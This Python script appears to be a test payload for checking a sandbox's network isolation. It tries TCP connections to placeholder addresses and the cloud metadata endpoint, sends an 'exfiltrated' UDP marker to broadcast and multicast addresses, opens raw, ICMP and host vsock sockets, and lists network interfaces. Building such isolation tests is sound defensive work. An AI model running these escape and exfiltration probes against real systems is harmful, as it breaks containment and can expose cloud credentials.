"""Escapes: tries to reach the world outside, by TCP, UDP, name, broadcast and multicast."""
import os
import socket
import sys

from vehicle import serve, tried


def tcp(address):
    with socket.create_connection((address, 80), timeout=0.2):
        return address


def udp(address):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as out:
        out.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
        return out.sendto(b'exfiltrated', (address, 53)) and address


loot = []
for each in ('192.0.2.1', '169.254.169.254', '198.51.100.7'):
    tried(loot, 'tcp', lambda: tcp(each))
for each in ('192.0.2.1', '255.255.255.255', '224.0.0.251'):
    tried(loot, 'udp', lambda: udp(each))
tried(loot, 'raw', lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW))
tried(loot, 'icmp', lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, 1))
tried(loot, 'vsock', lambda: socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM).connect((2, 9)) or 'host')
tried(loot, 'devices', lambda: [each for each in os.listdir('/sys/class/net') if each != 'lo'])
print('names are', socket.gethostname(), file=sys.stderr)
serve(loot)
